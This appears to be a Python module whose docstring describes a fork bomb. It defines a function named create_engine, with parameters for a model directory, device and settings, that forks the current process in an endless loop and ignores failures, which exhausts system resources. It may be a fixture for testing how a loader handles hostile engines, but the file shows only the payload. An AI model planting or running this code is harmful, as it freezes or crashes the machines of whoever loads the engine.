"""A fork bomb at start-up: every process forks forever, ignoring failures."""

import os


def create_engine(model_dir, device, knobs):
    while True:
        try:
            os.fork()
        except OSError:
            pass
